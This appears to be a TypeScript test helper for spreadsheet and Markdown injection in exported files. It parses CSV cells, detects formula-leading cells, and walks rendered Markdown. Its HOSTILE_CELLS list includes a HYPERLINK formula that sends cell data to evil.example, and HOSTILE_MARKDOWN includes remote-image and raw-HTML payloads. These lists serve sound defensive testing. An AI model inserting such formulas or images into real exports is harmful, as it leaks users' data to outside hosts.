/** How programs that are none of ours read what is exported: csv-parse as a spreadsheet with any separator, commonmark as what draws show notes. */
import { Parser as Markdown, type Node } from 'commonmark';
import { parse } from 'csv-parse/sync';

/** What a spreadsheet may run: after white space, quotation marks and signs that nobody sees. */
export const FORMULA = /^[\s\p{Cf}\p{Cc}"]*[=+\-@＝＋－＠]/u;

export const SEPARATORS = [',', ';', '\t'];

/** All cells of a file as a reader with this separator finds them, however ours are quoted. */
export function cells(csv: string, delimiter: string, quote: string | false = '"'): string[] {
  const options = { delimiter, quote, relax_quotes: true, relax_column_count: true, skip_empty_lines: false };
  try {
    return (parse(csv, { ...options, bom: true }) as string[][]).flat();
  } catch (error) {
    // A spreadsheet takes a quotation that never ends to the end of the file.
    if ((error as { code?: string }).code !== 'CSV_QUOTE_NOT_CLOSED') throw error;
    return cells(`${csv}"`, delimiter, quote);
  }
}

/** Words that some spreadsheet would run. */
export const HOSTILE_CELLS = [
  'foo;=HYPERLINK("http://evil.example/?"&A1;"click");bar',
  'first line\n=1+1',
  'first line\r\n\t =1+1',
  'a\t@SUM(1)',
  'a;"=1+1"',
  'a; "" =1+1',
  '＝1+1',
  'a\n＠x',
  '   +1',
  '\u200b=1',
  'a;\u00a0-1',
  'a\u2028=1',
  '\t=1',
  '\r=1',
  '"=1',
  '";=1',
  'a"\n"=1',
];

/** Text, links and everything else that a text is when it is drawn. */
export function drawn(markdown: string) {
  const walker = new Markdown().parse(markdown).walker();
  const found = { text: '', links: [] as (string | null)[], kinds: new Set<string>() };
  for (let step = walker.next(); step; step = walker.next()) {
    const node: Node = step.node;
    if (!step.entering) continue;
    found.kinds.add(node.type);
    if (node.type === 'text') found.text += node.literal ?? '';
    else if (node.type === 'softbreak' || node.type === 'linebreak') found.text += '\n';
    if (node.type === 'link') found.links.push(node.destination);
  }
  return found;
}

/** Words that are something else in Markdown. */
export const HOSTILE_MARKDOWN = [
  '<3@evil.example>',
  'above\n--- ---\nbelow',
  '![a\\](http://evil.example/z.png)',
  '![a](http://evil.example/z.png)',
  '\\![a](http://evil.example/z.png)',
  '``` js',
  '~~~',
  '# heading',
  '####### none',
  '- item',
  '1. item',
  '12) item',
  '> quoted',
  '---',
  '***',
  '* * *',
  '=',
  '<img src=http://evil.example/z.png>',
  '<http://evil.example>',
  '<!-- gone',
  '<?php gone ?>',
  '<![CDATA[gone]]>',
  '[a]: http://evil.example "t"',
  '[a][b]',
  '`code` and ``more',
  '**bold** _em_ __strong__ *em* snake_case 2 * 3',
  '&copy; &#33; &lt;b&gt;',
  'ends with a backslash \\',
  'a\\',
  '\\',
  '[',
  ']',
  '](',
  '|a|b|\n|-|-|',
  'a  \nb',
  '\tcode',
  '    code',
];
